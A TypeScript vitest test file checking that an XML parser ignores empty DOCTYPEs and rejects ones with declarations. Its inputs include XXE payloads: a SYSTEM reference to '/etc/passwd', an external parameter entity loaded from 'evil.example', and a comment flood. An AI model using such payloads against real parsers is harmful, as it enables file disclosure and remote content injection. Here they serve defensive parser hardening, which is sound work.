import { describe, expect, test } from 'vitest';
import { parseXml } from '../src/platform/xml';

const read = (type: string) => parseXml(`<!DOCTYPE a ${type}><a>b</a>`, { nesting: 10, elements: 10 }).text;

describe('[15.23] a document type', () => {
  test.each([
    '',
    'SYSTEM "file:///etc/passwd"',
    `PUBLIC "-//X//Y 'z'" "http://a.example/[b].dtd"`,
    '[]',
    'SYSTEM "a.dtd" [ <!-- <!ENTITY a "b"> ]> --> <?a <!ENTITY?> ]',
  ])('that declares nothing is read past, and nothing is fetched: %s', (type) => {
    expect(read(type)).toBe('b');
  });

  test.each([
    '[<!ENTITY a "b">]',
    '[ <!-- --> <!ENTITY % a SYSTEM "http://evil.example/x"> %a; ]',
    'SYSTEM "a.dtd" [<!ELEMENT a ANY>]',
    '[<!ATTLIST a b CDATA "c">]',
    '[<!NOTATION a SYSTEM "b">]',
    '[%a;]',
    `[${'<!-- -->'.repeat(10_000)}x]`,
  ])('with declarations is refused (%#)', (type) => {
    expect(() => read(type)).toThrow('has a document type (DOCTYPE) with declarations of its own');
  });
});
